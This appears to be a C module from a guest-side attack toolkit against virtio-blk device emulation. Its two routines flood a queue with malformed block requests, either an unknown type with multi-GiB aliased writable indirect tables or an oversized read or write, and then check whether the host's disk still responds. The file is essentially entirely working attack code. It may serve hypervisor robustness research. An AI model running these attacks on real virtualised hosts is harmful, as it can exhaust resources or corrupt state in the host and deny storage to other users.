/*
 * virtio-blk requests the device cannot sensibly do:
 *   blk-unknown ADDR: on every slot of a `--qsize` ring, a request of type `--type`
 *     (default 0x7777, no such type) whose writable part is GiBs: an indirect table with
 *     the header, `--data-entries` writable buffers of `--chunk` bytes all naming the slot's
 *     own buffer (pre-filled with 0xA5), and the status byte (pre-filled with 0xEE).
 *     Reports each request's used.len, status, and how many bytes of its buffer changed.
 *   blk-oversize ADDR: one read (`--type 0`) or write (`--type 1`) at sector 0 whose data is
 *     `--bytes` long (default 10 MiB), in 128 KiB buffers naming the same bytes.
 * Both end with a valid 512-byte read of sector 0 to show whether the disk still serves.
 */
#include "attack.h"

#define FILL 0xA5
#define STATUS_FILL 0xEE

struct blk { struct vdev d; struct vq q; };

static void blk_start(struct blk *b, const char *addr, u32 qsize) {
	vdev_open(&b->d, addr);
	vdev_start(&b->d, (1ull << F_VERSION_1) | (1ull << F_INDIRECT_DESC));
	if (!(b->d.features >> F_INDIRECT_DESC & 1)) die("no INDIRECT_DESC");
	vq_setup(&b->d, &b->q, 0, (u16)qsize);
	vq_interrupts(&b->q, 0);
	vdev_driver_ok(&b->d);
}

/* A 16-byte request header: type, reserved, sector (low, high). */
static u32 header(u32 type, u32 sector) {
	u32 h = region_alloc(16, 16);
	volatile u32 *w = pa_to_va(h);
	w[0] = type, w[1] = 0, w[2] = sector, w[3] = 0;
	return h;
}

/* Header, `n` data buffers of `len` bytes at `data` (readable or writable), status: as one indirect table. */
static u32 request_table(u32 type, u32 n, u32 data, u32 len, int writable, u32 status) {
	u32 table = region_alloc(16 * (n + 2), 16);
	volatile struct vdesc *t = pa_to_va(table);
	desc_set(&t[0], header(type, 0), 16, D_NEXT, 1);
	for (u32 i = 1; i <= n; i++) desc_set(&t[i], data, len, (u16)(D_NEXT | (writable ? D_WRITE : 0)), (u16)(i + 1));
	desc_set(&t[n + 1], status, 1, D_WRITE, 0);
	return table;
}

static u32 filled(u32 len, u8 value) {
	u32 pa = region_alloc(len, 4096);
	volatile u8 *p = pa_to_va(pa);
	for (u32 i = 0; i < len; i++) p[i] = value;
	return pa;
}

static u32 changed(u32 pa, u32 len, u8 value) {
	volatile u8 *p = pa_to_va(pa);
	u32 n = 0;
	for (u32 i = 0; i < len; i++) n += p[i] != value;
	return n;
}

/* A valid read of sector 0 in three direct descriptors; prints its status and first 16 bytes. */
static void blk_probe(struct blk *b) {
	u32 data = filled(512, 0), status = filled(1, STATUS_FILL);
	desc_set(&b->q.desc[0], header(0, 0), 16, D_NEXT, 1);
	desc_set(&b->q.desc[1], data, 512, D_NEXT | D_WRITE, 2);
	desc_set(&b->q.desc[2], status, 1, D_WRITE, 0);
	vq_publish(&b->q, 0);
	vq_kick(&b->q);
	u32 ready = vq_wait(&b->q, 1, 5000);
	if (ready) vq_take(&b->q);
	kv("probe_completed", ready >= 1);
	kv("probe_status", *(volatile u8 *)pa_to_va(status));
	volatile u8 *p = pa_to_va(data);
	out_str("probe_head=");
	for (u32 i = 0; i < 16; i++) {
		const char *hex = "0123456789abcdef";
		char two[3] = { hex[p[i] >> 4], hex[p[i] & 15], 0 };
		out_str(two);
	}
	out_str("\n");
	vdev_isr(&b->d);
	vdev_report(&b->d);
}

int attack_blk_unknown(int argc, char **argv) {
	if (argc < 1) die("usage: blk-unknown ADDR [--type T] [--data-entries N] [--chunk BYTES] [--qsize N]");
	u32 type = option("--type", 0x7777), n = option("--data-entries", 16384);
	u32 chunk = option("--chunk", 131072);
	struct blk b;
	blk_start(&b, argv[0], option("--qsize", 16));
	if ((u64)n * chunk + 1 > 0xffffffffull) die("writable part must stay under 4 GiB");
	kv64("writable", (u64)n * chunk + 1);
	u32 data[256], status[256];
	u32 slots = b.q.size;
	if (slots > 256) die("--qsize at most 256");
	for (u32 s = 0; s < slots; s++) {
		data[s] = filled(chunk, FILL);
		status[s] = filled(1, STATUS_FILL);
		desc_set(&b.q.desc[s], request_table(type, n, data[s], chunk, 1, status[s]), 16 * (n + 2), D_INDIRECT, 0);
		vq_publish(&b.q, (u16)s);
	}
	vq_kick(&b.q);
	u32 ready = vq_wait(&b.q, slots, 120000);
	for (u32 i = 0; i < ready; i++) {
		struct used_elem u = vq_take(&b.q);
		if (u.id >= slots) die("used id outside the ring");
		out_str("request=");
		out_u32(u.id);
		out_str(" used_len=");
		out_u32(u.len);
		out_str(" status=");
		out_u32(*(volatile u8 *)pa_to_va(status[u.id]));
		out_str(" modified=");
		out_u32(changed(data[u.id], chunk, FILL));
		out_str("\n");
	}
	kv("requests", slots);
	kv("completed", ready);
	vdev_isr(&b.d);
	blk_probe(&b);
	return 0;
}

int attack_blk_oversize(int argc, char **argv) {
	if (argc < 1) die("usage: blk-oversize ADDR [--type 0|1] [--bytes N]");
	u32 type = option("--type", 0), bytes = option("--bytes", 10u << 20);
	const u32 chunk = 131072;
	if (type > 1 || bytes % chunk) die("--type 0 or 1, --bytes a multiple of 128 KiB");
	struct blk b;
	blk_start(&b, argv[0], 16);
	u32 data = filled(chunk, FILL), status = filled(1, STATUS_FILL);
	u32 n = bytes / chunk;
	desc_set(&b.q.desc[0], request_table(type, n, data, chunk, type == 0, status), 16 * (n + 2), D_INDIRECT, 0);
	vq_publish(&b.q, 0);
	vq_kick(&b.q);
	u32 ready = vq_wait(&b.q, 1, 60000);
	kv("completed", ready);
	if (ready) kv("used_len", vq_take(&b.q).len);
	kv("status_byte", *(volatile u8 *)pa_to_va(status));
	vdev_isr(&b.d);
	blk_probe(&b);
	return 0;
}
